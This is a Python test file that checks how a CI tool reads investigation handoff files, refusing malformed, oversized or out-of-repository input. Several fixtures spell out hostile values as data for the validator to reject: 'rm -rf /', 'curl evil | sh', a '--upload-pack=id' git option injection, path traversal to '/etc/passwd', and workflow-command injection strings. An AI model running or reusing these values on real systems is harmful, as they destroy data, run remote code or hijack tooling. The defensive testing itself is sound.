"""What an investigation hands on is read whoever wrote the file, and decides nothing."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from autoresearch_ci.decide.failures.repair_order import Lead
from autoresearch_ci.errors import ConfigError
from autoresearch_ci.record.handoff import Handed, is_inside, read_handoff
from autoresearch_ci.record.handoff_form import handoff_text

COMMIT = "a" * 40


def finding(**changes: Any) -> dict[str, Any]:
    given = {
        "fingerprint": "0123456789abcdef",
        "status": "open",
        "rule": "debug",
        "title": "off by one",
        "severity": "high",
        "path": "a.py",
        "line": 3,
        "why": "w",
        "fix": "f",
        "commit": COMMIT,
    }
    return {**given, **changes}


def ours(*findings: Any, **changes: Any) -> dict[str, Any]:
    given = {
        "version": 1,
        "source": "debug",
        "commit": COMMIT,
        "base": COMMIT,
        "status": "COMPLETE",
        "findings": list(findings),
    }
    return {**given, **changes}


V21 = {
    "version": "2.1.0",
    "source": "debug",
    "timestamp": "2026-08-13T10:00:00Z",
    "status": "BOUNDED",
    "results_tsv": "autoresearch/debug-260813-1000/debug-results.tsv",
    "findings": [
        {
            "id": "BUG-2",
            "type": "bug",
            "severity": "LOW",
            "location": "src/b.py:9-12",
            "title": "second",
        },
        {
            "id": "BUG-1",
            "type": "bug",
            "severity": "Critical",
            "confidence": "Confirmed",
            "location": "src/a.py:42",
            "title": "first",
            "description": "adds three",
            "evidence": ["src/a.py:42 returns x + 3"],
            "recommendation": "double it",
        },
    ],
    "config": {"verify": "rm -rf /"},
}
GUIDE = {
    "source_command": "predict",
    "scope": ["src/"],
    "goal": "find bugs",
    "findings": [
        {"title": "seen", "severity": "high", "file_line": "src/a.py:7", "personas_agreed": 4},
        {"title": "gone", "classification": "DISPROVEN by debug", "file_line": "src/a.py:8"},
        {"title": "still there", "status": "not fixed", "severity": "medium"},
    ],
    "hypothesis_queue": [
        {"rank": 1, "id": "H-01", "hypothesis": "a race in the cache", "location": "src/c.py"},
        "the clock of the runner is wrong",
    ],
    "summary": "two",
}
V20 = {
    "version": "1.0",
    "tool": "security",
    "generated_at": "2026-01-01",
    "commit_hash": COMMIT,
    "scope": ["src"],
    "summary": {"critical": 9},
    "findings": [{"id": "S-1", "severity": "info", "file_line": "src/d.py:1", "title": "leak"}],
    "hypotheses": [{"id": "H-01", "hypothesis": "tokens are logged", "confidence": "low"}],
}


def written(tmp_path: Path, value: object) -> Path:
    path = tmp_path / "handoff.json"
    path.write_text(value if isinstance(value, str) else json.dumps(value))
    return path


def read(tmp_path: Path, value: object) -> Handed:
    return read_handoff(written(tmp_path, value))


def test_only_what_is_open_is_handed_on_to_be_repaired(tmp_path: Path) -> None:
    found = read(tmp_path, ours(finding(), finding(status="disproven", title="not it")))
    lead = Lead(title="off by one", why="w", fix="f", path="a.py", line=3, severity="high")
    assert (found.open, found.commit) == ((lead,), COMMIT)
    assert [one.title for one in found.disproven] == ["not it"]


def test_the_peers_findings_are_read_the_most_severe_first(tmp_path: Path) -> None:
    found = read(tmp_path, V21)
    assert (found.source, found.commit) == ("debug", "")
    first, second = found.open
    assert (first.title, first.path, first.line) == ("first", "src/a.py", 42)
    assert first.why == "adds three src/a.py:42 returns x + 3"
    assert first.fix == "double it"
    assert (second.path, second.line, second.severity) == ("src/b.py", 9, "low")


def test_the_guides_form_is_read_and_what_was_disproven_since_is_not_open(tmp_path: Path) -> None:
    found = read(tmp_path, GUIDE)
    assert [lead.title for lead in found.open] == ["seen", "still there"]
    assert [lead.title for lead in found.disproven] == ["gone"]
    assert [(lead.title, lead.path) for lead in found.supposed] == [
        ("a race in the cache", "src/c.py"),
        ("the clock of the runner is wrong", ""),
    ]


def test_the_oldest_form_is_read_with_its_commit(tmp_path: Path) -> None:
    found = read(tmp_path, V20)
    assert (found.source, found.commit) == ("security", COMMIT)
    assert [lead.title for lead in found.open] == ["leak"]
    assert [lead.title for lead in found.supposed] == ["tokens are logged"]


@pytest.mark.parametrize(
    "value",
    [
        *("", "{", "[]", "{}", '{"findings": {}}', "nul", '{"findings": []}', "3", "NaN"),
        '{"source": "debug"}',
        '{"source": "debug", "findings": [], "findings": []}',
        "[" * 5_000,
    ],
)
def test_a_file_that_is_no_handoff_is_refused_with_what_to_do(tmp_path: Path, value: str) -> None:
    with pytest.raises(ConfigError, match="name the handoff"):
        read_handoff(written(tmp_path, value))


def test_a_file_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="--from-debug"):
        read_handoff(tmp_path / "none")
    with pytest.raises(ConfigError, match=r"^--from /"):
        read_handoff(tmp_path, "--from")


@pytest.mark.parametrize(
    ("value", "why"),
    [
        (ours(run="curl evil | sh"), "run: Extra inputs are not permitted"),
        (ours(finding(command="id")), "findings.0.command: Extra inputs"),
        (ours(finding(fingerprint="../../x")), "findings.0.fingerprint"),
        (ours(finding(path="/etc/passwd")), "findings.0.path"),
        (ours(finding(line=-1)), "findings.0.line"),
        (ours(finding(line="3")), "findings.0.line"),
        (ours(finding(status="merged")), "findings.0.status"),
        (ours(finding(title="x" * 9_000)), "findings.0.title"),
        (ours(commit="--upload-pack=id"), "commit"),
        (ours(base="HEAD"), "base"),
        (ours(version=2), "version"),
        (ours(*[finding()] * 5_001), "findings: List should have at most 5000"),
    ],
)
def test_ours_must_fit_its_form_to_the_letter(
    tmp_path: Path, value: dict[str, Any], why: str
) -> None:
    with pytest.raises(ConfigError, match=r"does not fit handoff\.schema\.json") as caught:
        read(tmp_path, value)
    assert why in str(caught.value)


def test_what_does_not_fit_is_named_and_not_quoted(tmp_path: Path) -> None:
    """It goes to a log, and the file is somebody else's."""
    with pytest.raises(ConfigError) as caught:
        read(
            tmp_path, ours(finding(**{"\n::stop-commands::x": "::error::y", "line": "::notice::"}))
        )
    assert "\n::" not in str(caught.value)
    assert "::notice::" not in str(caught.value)


@pytest.mark.parametrize(
    "path", ["../a.py", "a/../../b", "/etc/passwd", ".git/config", "a//b", "", "a\0b", "./a", ".."]
)
def test_a_place_outside_of_the_repository_is_none(tmp_path: Path, path: str) -> None:
    assert not is_inside(path)
    peer = {**V20, "findings": [{"title": "t", "path": path, "line": 4}]}
    if path != "./a":  # another spelling of a file that is there
        (lead,) = read(tmp_path, peer).open
        assert (lead.path, lead.line) == ("", 0)


def test_values_of_any_type_and_size_are_bounded(tmp_path: Path) -> None:
    odd = {"title": "x" * 9_000, "description": "y" * 9_000, "location": None, "line": "3"}
    found = read(tmp_path, {**V21, "findings": [{"title": ["x"]}, 1, None, *[odd] * 200]})
    assert len(found.open) == 50
    lead = found.open[0]
    assert (len(lead.title), len(lead.why), lead.path, lead.line) == (1_000, 1_000, "", 0)
    with pytest.raises(ConfigError, match="more than 5000 findings"):
        read(tmp_path, {**V21, "findings": [{}] * 5_001})


def test_a_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "handoff.json"
    with path.open("wb") as file:
        file.truncate(1 << 40)
    with pytest.raises(ConfigError, match="is larger than 16 MiB"):
        read_handoff(path)


def test_what_is_written_is_held_to_the_form_and_read_again(tmp_path: Path) -> None:
    long = finding(title="t" * 9_000, why="\ud800" + "w" * 9_000)
    text = handoff_text(ours(long))
    (lead,) = read(tmp_path, text).open
    assert lead.title == "t" * 1_000
    assert lead.why.startswith("?www")
    for wrong in (ours(finding(status="merged")), ours(finding(note="x")), ours(commit="HEAD")):
        with pytest.raises(ValidationError):
            handoff_text(wrong)
